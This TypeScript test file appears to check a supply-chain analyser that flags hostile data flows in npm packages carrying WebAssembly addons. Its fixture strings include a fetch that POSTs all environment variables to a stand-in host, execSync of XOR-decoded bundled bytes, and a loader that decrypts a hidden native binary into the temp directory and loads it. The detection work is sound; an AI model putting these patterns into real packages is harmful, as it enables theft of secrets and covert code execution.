import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import { packageOf } from '../../../../support/artifacts.js';

/** An empty module of WebAssembly. */
const MODULE = Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0);

function flowsOf(code: string, file: Uint8Array = MODULE): readonly string[] {
  const given = `const fs = require('fs'), cp = require('child_process'), { WASI } = require('wasi'), napi = require('@napi-rs/wasm-runtime');
    const bytes = fs.readFileSync(__dirname + '/addon.wasm'), wasi = new WASI({ version: 'preview1', env: process.env, preopens: { '/': '/' } });`;
  const { flows } = analysePackage(packageOf({ 'index.js': `${given} ${code}`, 'addon.wasm': file }));
  return flows.map(({ source, sink }) => `${source}>${sink}`);
}

const LOADED = `const { napiModule } = napi.instantiateNapiModuleSync(bytes, { wasi }), addon = napiModule.exports;`;

describe('an addon of WebAssembly', () => {
  it('gives what it has worked out, and neither its own bytes nor the environment that it runs in', () => {
    const use = `fetch('https://a.invalid/' + addon.version()); cp.execSync(addon.tool());`;
    assert.deepEqual(flowsOf(LOADED + use), []);
  });

  it('is no file that the code itself reads a command from, nor another one', () => {
    const run = `const out = (b) => { let text = ''; for (const one of b) text += String.fromCharCode(one ^ 7); return text; }; cp.execSync(out(bytes));`;
    assert.deepEqual(flowsOf(LOADED + run), ['decoded>run-as-command']);
    assert.deepEqual(flowsOf(`cp.execSync(napi.decode(bytes).toString());`), ['data-file>run-as-command']);
    const text = new TextEncoder().encode('touch /tmp/a');
    assert.deepEqual(flowsOf(`${LOADED} cp.execSync(addon.tool());`, text), ['data-file>run-as-command']);
  });

  it('sends the environment where it is handed on besides', () => {
    const send = `fetch('https://a.invalid/', { method: 'POST', body: JSON.stringify(addon.pack({ ...process.env })) });`;
    assert.deepEqual(flowsOf(LOADED + send), ['environment>network']);
  });

  it('is one of those for all systems, decrypted and loaded from where it was put', () => {
    const code = `const fs = require('fs'), os = require('os'), path = require('path');
      const raw = fs.readFileSync(path.join(__dirname, 'prebuilds', \`\${process.platform}-\${process.arch}\`, 'binding.dat'));
      for (let i = 0; i < raw.length; i++) raw[i] ^= 0x5a;
      const file = path.join(os.tmpdir(), '.' + process.pid + '.node'); fs.writeFileSync(file, raw, { mode: 0o755 });
      process.dlopen({ exports: {} }, file);`;
    const { flows } = analysePackage(
      packageOf({ 'index.js': code, 'prebuilds/linux-x64/binding.dat': Buffer.alloc(64, 1) }),
    );
    assert.deepEqual(
      flows.map(({ source, sink, detail }) => `${source}>${sink} ${detail ?? ''}`),
      ['data-file>native-loaded prebuilds/linux-x64/binding.dat'],
    );
  });
});
